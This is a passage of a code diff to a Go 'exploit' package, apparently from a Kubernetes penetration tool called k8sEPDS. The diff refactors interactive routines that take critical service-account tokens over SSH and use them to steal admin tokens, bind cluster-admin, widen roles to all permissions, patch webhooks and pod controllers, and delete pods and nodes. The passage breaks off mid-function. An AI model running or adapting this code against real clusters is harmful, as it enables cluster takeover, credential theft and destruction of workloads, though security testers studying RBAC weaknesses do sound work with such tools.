@@ -2,16 +2,11 @@ package exploit
 
 import (
 	"context"
-	"encoding/json"
 	"fmt"
 	"k8sEPDS/models"
 	exp "k8sEPDS/pkg/exploit/utils"
 	"k8sEPDS/pkg/request"
-	"k8sEPDS/pkg/scan"
-	"log"
 	"math/rand"
-	"os"
-	"reflect"
 	"sort"
 	"strconv"
 	"strings"
@@ -21,26 +16,17 @@ import (
 	metaV1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 )
 
-func Patchwebhookconfig(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Patchwebhookconfig(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check1(criticalSAs, []string{"patchmutatingwebhookconfigurations", "patchvalidatingwebhookconfigurations"})
 	if flag1 {
 		webhookconfigType := ""
 		for _, criticalSA := range criticalSAs1 {
 			webhookconfigType = criticalSA.SA.Type[5:]
-			flag := "N"
-			fmt.Print("[Y/N] Detected a ", criticalSA.SA.Type, "whether to Patch webhookconfig: ")
-			fmt.Scan(&flag)
-			if strings.ToUpper(flag) == "Y" {
-				webhookconfigName := ""
-				webhookURL := ""
-				ca := ""
-				fmt.Println("[input] Input a WebHookConfigName")
-				fmt.Scan(&webhookconfigName)
-				fmt.Print("[input] Input a webhookURL: ")
-				fmt.Scan(&webhookURL)
-				fmt.Println("[input] Input a ca")
-				fmt.Scan(&ca)
-				token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+			if confirm(p, fmt.Sprint("[Y/N] Detected a ", criticalSA.SA.Type, "whether to Patch webhookconfig: ")) {
+				webhookconfigName := input(p, "webhook-name", "[input] Input a WebHookConfigName\n")
+				webhookURL := input(p, "webhook-url", "[input] Input a webhookURL: ")
+				ca := input(p, "ca", "[input] Input a ca\n")
+				token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "patchwebhookconfig")
 				if err != nil {
 					fmt.Println("[X] File read error")
 					fmt.Println("[error msg]:", err.Error())
@@ -55,23 +41,16 @@ func Patchwebhookconfig(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (
 	}
 	return false, nil
 }
-func Createwebhookconfig(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Createwebhookconfig(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check1(criticalSAs, []string{"createmutatingwebhookconfigurations", "createvalidatingwebhookconfigurations"})
 	if flag1 {
 		webhookconfigType := ""
 		for _, criticalSA := range criticalSAs1 {
 			webhookconfigType = criticalSA.SA.Type[6:]
-			flag := "N"
-			fmt.Print("[Y/N] Detected a ", criticalSA.SA.Type, "whether to create webhookconfig: ")
-			fmt.Scan(&flag)
-			if strings.ToUpper(flag) == "Y" {
-				webhookURL := ""
-				ca := ""
-				fmt.Print("[input] Input a webhookURL: ")
-				fmt.Scan(&webhookURL)
-				fmt.Println("[input] Input a ca: ")
-				fmt.Scan(&ca)
-				token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+			if confirm(p, fmt.Sprint("[Y/N] Detected a ", criticalSA.SA.Type, "whether to create webhookconfig: ")) {
+				webhookURL := input(p, "webhook-url", "[input] Input a webhookURL: ")
+				ca := input(p, "ca", "[input] Input a ca: \n")
+				token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "createwebhookconfig")
 				if err != nil {
 					fmt.Println("[X] File read error")
 					fmt.Println("[error msg]:", err.Error())
@@ -86,13 +65,13 @@ func Createwebhookconfig(criticalSAs []models.CriticalSA, ssh models.SSHConfig)
 	}
 	return false, nil
 }
-func WatchSecrets(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func WatchSecrets(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"watchsecrets"})
 	if flag1 {
 		fmt.Println("[√] watchsecrets permission detected")
 		for _, criticalSA := range criticalSAs1 {
 			fmt.Println("[msg] The SA's watch permissions are: ", criticalSA.SA.Type)
-			token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+			token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "watchsecrets")
 			if err != nil {
 				fmt.Println("[X] File read error")
 				fmt.Println("[error msg]:", err.Error())
@@ -105,13 +84,13 @@ func WatchSecrets(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool,
 	return false, nil
 }
 
-func Impersonate(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Impersonate(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"impersonate"})
 	if flag1 {
 		fmt.Println("[√] impersonate permission detected")
 		for _, criticalSA := range criticalSAs1 {
 			fmt.Println("[msg] Specific information about the SA:", criticalSA.SA.Type)
-			token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+			token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "impersonate")
 			if err != nil {
 				fmt.Println("[X] File read error")
 				fmt.Println("[error msg]:", err.Error())
@@ -123,13 +102,13 @@ func Impersonate(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, e
 	}
 	return false, nil
 }
-func Execpods(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Execpods(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"execpods"})
 	if flag1 {
 		fmt.Println("[√] create pods/exec permission detected")
 		for _, criticalSA := range criticalSAs1 {
 			fmt.Println("[msg] The pods that the SA could exec: ", criticalSA.SA.Type)
-			token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+			token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "execpods")
 			if err != nil {
 				fmt.Println("[X] File read error")
 				fmt.Println("[error msg]:", err.Error())
@@ -141,13 +120,13 @@ func Execpods(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, erro
 	}
 	return false, nil
 }
-func Execpods2(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Execpods2(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"execpods2"})
 	if flag1 {
 		fmt.Println("[√] Create pods/ephemeralcontainers permission detected")
 		for _, criticalSA := range criticalSAs1 {
 			fmt.Println("[msg] The pods that the SA could exec: ", criticalSA.SA.Type)
-			token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+			token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "execpods2")
 			if err != nil {
 				fmt.Println("[X] File read error")
 				fmt.Println("[error msg]:", err.Error())
@@ -159,23 +138,19 @@ func Execpods2(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, err
 	}
 	return false, nil
 }
-func Deletepods(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Deletepods(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"deletepods"})
 	if flag1 {
 		for _, criticalSA := range criticalSAs1 {
-			flag := "N"
 			var namespace string
 			var podName string
 			fmt.Println("[√] The delete pods permission is detected, and the permission range is: ", criticalSA.SA.Type)
-			fmt.Print("[Y/N] Whether to delete the pod under this ns: ")
-			fmt.Scan(&flag)
-			if strings.ToUpper(flag) != "Y" {
+			if !confirm(p, "[Y/N] Whether to delete the pod under this ns: ") {
 				continue
 			}
-			fmt.Println("[input] Enter the ns and name of the target pod(namespace podName)")
-			fmt.Scan(&namespace)
-			fmt.Scan(&podName)
-			token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+			namespace = input(p, "namespace", "[input] Enter the ns and name of the target pod(namespace podName)\n")
+			podName = input(p, "pod", "")
+			token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "deletepods")
 			if err != nil {
 				fmt.Println("[X] File read error")
 				fmt.Println("[error msg]:", err.Error())
@@ -190,21 +165,17 @@ func Deletepods(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, er
 	}
 	return false, nil
 }
-func Deletenodes(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Deletenodes(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"deletenodes"})
 	if flag1 {
 		for _, criticalSA := range criticalSAs1 {
-			flag := "N"
 			var node string
 			fmt.Println("[√] delete nodes permission detected ")
-			fmt.Print("[Y/N] Whether to delete node: ")
-			fmt.Scan(&flag)
-			if strings.ToUpper(flag) != "Y" {
+			if !confirm(p, "[Y/N] Whether to delete node: ") {
 				continue
 			}
-			fmt.Println("[input] Enter the node to be deleted")
-			fmt.Scan(&node)
-			token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+			node = input(p, "node", "[input] Enter the node to be deleted\n")
+			token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "deletenodes")
 			if err != nil {
 				fmt.Println("[X] File read error")
 				fmt.Println("[error msg]:", err.Error())
@@ -219,23 +190,19 @@ func Deletenodes(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, e
 	}
 	return false, nil
 }
-func Createpodeviction(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Createpodeviction(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"createpodevictions"})
 	if flag1 {
 		for _, criticalSA := range criticalSAs1 {
-			flag := "N"
 			var namespace string
 			var podName string
 			fmt.Println("[√] The createpodevictions permission is detected, and the permission scope is: ", criticalSA.SA.Type)
-			fmt.Println("[Y/N] Whether to delete the pod under this ns")
-			fmt.Scan(&flag)
-			if strings.ToUpper(flag) != "Y" {
+			if !confirm(p, "[Y/N] Whether to delete the pod under this ns\n") {
 				continue
 			}
-			fmt.Println("[input] Enter the ns and name of the target pod(namespace podName)")
-			fmt.Scan(&namespace)
-			fmt.Scan(&podName)
-			token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+			namespace = input(p, "namespace", "[input] Enter the ns and name of the target pod(namespace podName)\n")
+			podName = input(p, "pod", "")
+			token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "createpodeviction")
 			if err != nil {
 				fmt.Println("[X] File read error")
 				fmt.Println("[error msg]:", err.Error())
@@ -251,7 +218,7 @@ func Createpodeviction(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (b
 	return false, nil
 }
 
-func Patchpods(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Patchpods(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, _ := Check(criticalSAs, []string{"execpods2"})
 	if flag1 {
 		fmt.Println("[msg] Create a malicious image to obtain pod SAtoken")
@@ -260,11 +227,10 @@ func Patchpods(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, err
 	return false, nil
 }
 
-func Createtokens(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Createtokens(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"createtokens"})
 	if flag1 {
 		for _, criticalSA := range criticalSAs1 {
-			flag := "N" //If ns is not kube-system, whether to perform privilege escalation under the ns
 			targetSa := "clusterrole-aggregation-controller"
 			targetSaNamespace := "kube-system"
 			flag2 := false
@@ -273,15 +239,12 @@ func Createtokens(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool,
 			} else {
 				targetSaNamespace = strings.Trim(criticalSA.SA.Type[strings.Index(criticalSA.SA.Type, "["):], "[]")
 				fmt.Println("[!] Does not have createTokens permission under kube-system, the SA permission is limited to: " + targetSaNamespace)
-				fmt.Print("[Y/N] Whether to perform privilege escalation under this ns: ")
-				fmt.Scan(&flag)
-				if strings.ToUpper(flag) != "Y" {
+				if !confirm(p, "[Y/N] Whether to perform privilege escalation under this ns: ") {
 					continue
 				}
-				fmt.Println("[input] Enter an SA under the namespace that you want to steal.")
-				fmt.Scan(&targetSa)
+				targetSa = input(p, "target-sa", "[input] Enter an SA under the namespace that you want to steal.\n")
 			}
-			token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+			token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "createtokens")
 			if err != nil {
 				fmt.Println("[X] File read error")
 				fmt.Println("[error msg]:", err.Error())
@@ -290,8 +253,9 @@ func Createtokens(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool,
 			if err != nil {
 				fmt.Println("[X] Error when CreateToken")
 				fmt.Println("[error msg]:", err.Error())
-			} else {
+			} else if !skipDryRun("reading the issued token") {
 				fmt.Println("[result]", "Admin token: \n"+secret)
+				inspectToken(secret, targetSaNamespace, "createtokens", targetSaNamespace+"/"+targetSa)
 			}
 			if flag2 {
 				return true, nil
@@ -301,11 +265,10 @@ func Createtokens(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool,
 	}
 	return false, nil
 }
-func Getsecrets(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Getsecrets(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"getsecrets"})
 	if flag1 {
 		for _, criticalSA := range criticalSAs1 {
-			flag := "N"
 			targetSa := "clusterrole-aggregation-controller"
 			targetSaNamespace := "kube-system"
 			flag2 := false
@@ -314,13 +277,10 @@ func Getsecrets(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, er
 			} else {
 				targetSaNamespace = strings.Trim(criticalSA.SA.Type[strings.Index(criticalSA.SA.Type, "["):], "[]")
 				fmt.Println("[!] Does not have getsecrets permission under kube-system. The SA permission is limited to: " + targetSaNamespace)
-				fmt.Print("[Y/N] Whether to perform privilege escalation under this ns: ")
-				fmt.Scan(&flag)
-				if strings.ToUpper(flag) != "Y" {
+				if !confirm(p, "[Y/N] Whether to perform privilege escalation under this ns: ") {
 					continue
 				}
-				fmt.Print("[input] Enter an SA under the namespace that you want to steal.: ")
-				fmt.Scan(&targetSa)
+				targetSa = input(p, "target-sa", "[input] Enter an SA under the namespace that you want to steal.: ")
 			}
 			if strings.Contains(criticalSA.SA.Type, "(") {
 				resourceName := criticalSA.SA.Type[strings.Index(criticalSA.SA.Type, "(")+1 : strings.Index(criticalSA.SA.Type, ")")]
@@ -329,7 +289,7 @@ func Getsecrets(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, er
 					break
 				}
 			}
-			token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+			token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "getsecrets")
 			if err != nil {
 				fmt.Println("[X] File read error")
 				fmt.Println("[error msg]:", err.Error())
@@ -340,6 +300,7 @@ func Getsecrets(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, er
 				fmt.Println("[error msg]:", err.Error())
 			} else {
 				fmt.Println("[result]", "Admin token: \n"+secret)
+				inspectToken(secret, targetSaNamespace, "getsecrets", targetSaNamespace+"/"+targetSa)
 			}
 			if flag2 {
 				return true, nil
@@ -351,14 +312,11 @@ func Getsecrets(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, er
 	return false, nil
 }
 
-func Patchnodes(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Patchnodes(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag, criticalSAs1 := Check(criticalSAs, []string{"patchnodes"})
 	if flag {
-		var input string
-		fmt.Print("[√] Detected available PatchNodes permissions, whether to Patch (Y/N): ")
-		fmt.Scan(&input)
-		if strings.ToUpper(input) == "Y" {
-			token, err := scan.GetCriticalSAToken(criticalSAs1[0].SA.Crisa, ssh)
+		if confirm(p, "[√] Detected available PatchNodes permissions, whether to Patch (Y/N): ") {
+			token, err := criticalSAToken(criticalSAs1[0].SA.Crisa, ssh, "", "patchnodes")
 			if err != nil {
 				fmt.Println("[X] File read error")
 				fmt.Println("[error msg]:", err.Error())
@@ -369,6 +327,9 @@ func Patchnodes(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, er
 				fmt.Println("[X] Error when PatchNodes")
 				fmt.Println("[error msg]:", err.Error())
 			}
+			if skipDryRun("waiting for Pods to be rescheduled") {
+				return true, nil
+			}
 			fmt.Println("[√] All normal nodes have been patched")
 			fmt.Println("[msg] Need to wait for Pods to be rescheduled\n..........")
 			time.Sleep(5 * time.Second)
@@ -379,19 +340,17 @@ func Patchnodes(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, er
 	return false, nil
 }
 
-func Patchclusterrolebindings(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Patchclusterrolebindings(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"patchclusterrolebindings"})
 	if flag1 {
 		var clusterrolebindingName string
 		var saNamespace string
 		var saName string
 		fmt.Println("[√] Patchclusterrolebindings detected, ready to escalate privileges")
-		fmt.Print("[input] Enter a clusterrolebinding name that will be patched: ")
-		fmt.Scan(&clusterrolebindingName)
-		fmt.Print("[input] Enter the account to be upgraded(namespace sa): ")
-		fmt.Scan(&saNamespace)
-		fmt.Scan(&saName)
-		token, err := scan.GetCriticalSAToken(criticalSAs1[0].SA.Crisa, ssh)
+		clusterrolebindingName = input(p, "clusterrolebinding", "[input] Enter a clusterrolebinding name that will be patched: ")
+		saNamespace = input(p, "sa-namespace", "[input] Enter the account to be upgraded(namespace sa): ")
+		saName = input(p, "sa-name", "")
+		token, err := criticalSAToken(criticalSAs1[0].SA.Crisa, ssh, "", "patchclusterrolebindings")
 		if err != nil {
 			fmt.Println("[X] File read error")
 			fmt.Println("[error msg]:", err.Error())
@@ -409,21 +368,19 @@ func Patchclusterrolebindings(criticalSAs []models.CriticalSA, ssh models.SSHCon
 }
 
 // Replace the original SA bound in the target rolebinding with the controlled SA
-func Patchrolebindings(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Patchrolebindings(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"patchrolebindings"})
 	if flag1 {
 		var rolebindingName string
 		var saNamespace string
 		var saName string
 		fmt.Println("[√] Patchrolebindings detected, ready to escalate privileges")
-		fmt.Print("[input] Enter the account to be upgraded(namespace sa): ")
-		fmt.Scan(&saNamespace)
-		fmt.Scan(&saName)
-		fmt.Print("[input] Enter the next rolebinding name that will be patched in this namespace.: ")
-		fmt.Scan(&rolebindingName)
+		saNamespace = input(p, "sa-namespace", "[input] Enter the account to be upgraded(namespace sa): ")
+		saName = input(p, "sa-name", "")
+		rolebindingName = input(p, "rolebinding", "[input] Enter the next rolebinding name that will be patched in this namespace.: ")
 		for _, criticalSA := range criticalSAs1 {
 			if criticalSA.SA.Crisa.Level == "cluster" || criticalSA.SA.Type[17:] == "["+saNamespace+"]" {
-				token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+				token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "patchrolebindings")
 				if err != nil {
 					fmt.Println("[X] File read error")
 					fmt.Println("[error msg]:", err.Error())
@@ -445,14 +402,13 @@ func Patchrolebindings(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (b
 }
 
 // Upgrade the permissions described in the ClusterRole bound to the SA to *.*
-func Patchclusterroles(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Patchclusterroles(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"patchclusterroles"})
 	if flag1 {
 		var clusterroleName string
 		fmt.Println("[√] Patchclusterroles detected, ready to escalate privileges")
-		fmt.Println("[input] Enter the clusterrole name that the controlled SA is bound to.")
-		fmt.Scan(&clusterroleName)
-		token, err := scan.GetCriticalSAToken(criticalSAs1[0].SA.Crisa, ssh)
+		clusterroleName = input(p, "clusterrole", "[input] Enter the clusterrole name that the controlled SA is bound to.\n")
+		token, err := criticalSAToken(criticalSAs1[0].SA.Crisa, ssh, "", "patchclusterroles")
 		if err != nil {
 			fmt.Println("[X] File read error")
 			fmt.Println("[error msg]:", err.Error())
@@ -470,18 +426,17 @@ func Patchclusterroles(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (b
 }
 
 // Upgrade the permissions described in the Role bound to the SA to *.*
-func Patchroles(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Patchroles(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"patchroles"})
 	if flag1 {
 		var roleNamespace string
 		var roleName string
 		fmt.Println("[√] Patchroles detected, ready to escalate privileges")
-		fmt.Println("[input] Enter the roleNamespace and role name that the controlled SA has been bound to.(namespace name)")
-		fmt.Scan(&roleNamespace)
-		fmt.Scan(&roleName)
+		roleNamespace = input(p, "namespace", "[input] Enter the roleNamespace and role name that the controlled SA has been bound to.(namespace name)\n")
+		roleName = input(p, "role", "")
 		for _, criticalSA := range criticalSAs1 {
 			if criticalSA.SA.Crisa.Level == "cluster" || criticalSA.SA.Type[10:] == "["+roleNamespace+"]" {
-				token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+				token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "patchroles")
 				if err != nil {
 					fmt.Println("[X] File read error")
 					fmt.Println("[error msg]:", err.Error())
@@ -503,12 +458,11 @@ func Patchroles(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, er
 	return false, nil
 }
 
-func Patchpodcontrollers(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Patchpodcontrollers(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check1(criticalSAs, []string{"patchdeployments", "patchdaemonsets", "patchstatefulsets", "patchreplicasets", "patchjobs", "patchcronjobs"})
 	if flag1 {
 		controllerType := ""
 		for _, criticalSA := range criticalSAs1 {
-			flag := "N"
 			namespace := "kube-system"
 			controllerName := ""
 			targetSA := "clusterrole-aggregation-controller"
@@ -518,13 +472,10 @@ func Patchpodcontrollers(criticalSAs []models.CriticalSA, ssh models.SSHConfig)
 			} else {
 				namespace = strings.Trim(criticalSA.SA.Type[strings.Index(criticalSA.SA.Type, "["):], "[]")
 				fmt.Println("[!] Does not have patchpodcontroller permissions under kube-system. The SA permissions are limited to: " + namespace)
-				fmt.Print("[Y/N] Whether to perform privilege escalation under this ns: ")
-				fmt.Scan(&flag)
-				if strings.ToUpper(flag) != "Y" {
+				if !confirm(p, "[Y/N] Whether to perform privilege escalation under this ns: ") {
 					continue
 				}
-				fmt.Println("[input] Enter an SA under the namespace that you want to steal.")
-				fmt.Scan(&targetSA)
+				targetSA = input(p, "target-sa", "[input] Enter an SA under the namespace that you want to steal.\n")
 			}
 			cnt := strings.Index(criticalSA.SA.Type, "[")
 			if cnt == -1 {
@@ -532,10 +483,9 @@ func Patchpodcontrollers(criticalSAs []models.CriticalSA, ssh models.SSHConfig)
 			} else {
 				controllerType = criticalSA.SA.Type[5:cnt]
 			}
-			fmt.Println("[input] Enter a podcontroller name under" + namespace + ": ")
-			fmt.Scan(&controllerName)
+			controllerName = input(p, "controller", "[input] Enter a podcontroller name under" + namespace + ": \n")
 			fmt.Println("[msg] To patch " + namespace + "/" + controllerName)
-			token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+			token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "patchpodcontrollers")
 			if err != nil {
 				fmt.Println("[X] File read error")
 				fmt.Println("[error msg]:", err.Error())
@@ -556,11 +506,10 @@ func Patchpodcontrollers(criticalSAs []models.CriticalSA, ssh models.SSHConfig)
 
 }
 
-func Createsecrets(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Createsecrets(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"createsecrets"})
 	if flag1 {
 		for _, criticalSA := range criticalSAs1 {
-			flag := "N"
 			targetSa := "clusterrole-aggregation-controller"
 			targetSaNamespace := "kube-system"
 			flag2 := false
@@ -569,15 +518,12 @@ func Createsecrets(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool,
 			} else {
 				targetSaNamespace = strings.Trim(criticalSA.SA.Type[strings.Index(criticalSA.SA.Type, "["):], "[]")
 				fmt.Println("[!] Does not have createsecrets permission under kube-system, the SA permission is limited to: " + targetSaNamespace)
-				fmt.Print("[Y/N] Whether to perform privilege escalation under this ns: ")
-				fmt.Scan(&flag)
-				if strings.ToUpper(flag) != "Y" {
+				if !confirm(p, "[Y/N] Whether to perform privilege escalation under this ns: ") {
 					continue
 				}
-				fmt.Println("[input] Enter an SA under the namespace that you want to steal.")
-				fmt.Scan(&targetSa)
+				targetSa = input(p, "target-sa", "[input] Enter an SA under the namespace that you want to steal.\n")
 			}
-			token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+			token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "createsecrets")
 			if err != nil {
 				fmt.Println("[X] File read error")
 				fmt.Println("[error msg]:", err.Error())
@@ -587,9 +533,11 @@ func Createsecrets(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool,
 				fmt.Println("[X] Error when CreateSecret")
 				fmt.Println("[error msg]:", err.Error())
 			}
-			time.Sleep(5 * time.Second)
-			fmt.Println("[msg] Try to get the secret through getsecrets")
-			getsecrets(criticalSAs, targetSa, targetSaNamespace, ssh)
+			if !skipDryRun("reading the token of the created secret") {
+				time.Sleep(5 * time.Second)
+				fmt.Println("[msg] Try to get the secret through getsecrets")
+				getsecrets(criticalSAs, targetSa, targetSaNamespace, ssh)
+			}
 			if flag2 {
 				return true, nil
 			}
@@ -607,7 +555,7 @@ func getsecrets(criticalSAs []models.CriticalSA, targetSa string, targetSaNamesp
 		for _, criticalSA := range criticalSAs1 {
 			if criticalSA.SA.Type[10:] == "["+targetSaNamespace+"]" {
 				fmt.Println("[√] The corresponding getsecrets permission is detected and ready to obtain the secret")
-				token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
+				token, err := criticalSAToken(criticalSA.SA.Crisa, ssh, "", "createsecrets")
 				if err != nil {
 					fmt.Println("[X] File read error")
 					fmt.Println("[error msg]:", err.Error())
@@ -618,6 +566,7 @@ func getsecrets(criticalSAs []models.CriticalSA, targetSa string, targetSaNamesp
 					fmt.Println("[error msg]:", err.Error())
 				} else {
 					fmt.Println("[result]", "targetSA's token: \n"+secret)
+					inspectToken(secret, targetSaNamespace, "createsecrets", targetSaNamespace+"/"+targetSa)
 				}
 				return true, nil
 			}
@@ -627,16 +576,15 @@ func getsecrets(criticalSAs []models.CriticalSA, targetSa string, targetSaNamesp
 	return false, nil
 }
 
-func Createclusterrolebindings(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Createclusterrolebindings(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"createclusterrolebindings"})
 	if flag1 {
 		var saNamespace string
 		var saName string
 		fmt.Println("[√] Createclusterrolebindings detected, ready to bind cluster-admin")
-		fmt.Println("[input] Enter the account to be upgraded(namespace sa): ")
-		fmt.Scan(&saNamespace)
-		fmt.Scan(&saName)
-		token, err := scan.GetCriticalSAToken(criticalSAs1[0].SA.Crisa, ssh)
+		saNamespace = input(p, "sa-namespace", "[input] Enter the account to be upgraded(namespace sa): \n")
+		saName = input(p, "sa-name", "")
+		token, err := criticalSAToken(criticalSAs1[0].SA.Crisa, ssh, "", "createclusterrolebindings")
 		if err != nil {
 			fmt.Println("[X] File read error")
 			fmt.Println("[error msg]:", err.Error())
@@ -653,21 +601,19 @@ func Createclusterrolebindings(criticalSAs []models.CriticalSA, ssh models.SSHCo
 	return false, nil
 }
 
-func Createrolebindings(criticalSAs []models.CriticalSA, ssh models.SSHConfig) (bool, error) {
+func Createrolebindings(criticalSAs []models.CriticalSA, ssh models.SSHConfig, p Prompter) (bool, error) {
 	flag1, criticalSAs1 := Check(criticalSAs, []string{"createrolebindings"})
 	if flag1 {
 		var saNamespace string
 		var roleName string
 		var saName string
 		fmt.Println("[√] Patchroles detected, ready to escalate privileges")
-		fmt.Print("[input] Enter the controlled SANamespace and SA name(namespace name): ")
-		fmt.Scan(&saNamespace)
-		fmt.Scan(&saName)
-		fmt.Print("[input] Enter the next role name that is expected to be bound to this ns.: ")
-		fmt.Scan(&roleName)
+		saNamespace = input(p, "sa-namespace", "[input] Enter the controlled SANamespace and SA name(namespace name): ")
+		saName = input(p, "sa-name", "")
+		roleName = input(p, "role", "[input] Enter the next role name that is expected to be bound to this ns.: ")
 		for _, criticalSA := range criticalSAs1 {
 			if criticalSA.SA.Crisa.Level == "cluster" || criticalSA.SA.Type[18:] == "["+saNamespace+"]" {
-				token, err := scan.GetCriticalSAToken(criticalSA.SA.Crisa, ssh)
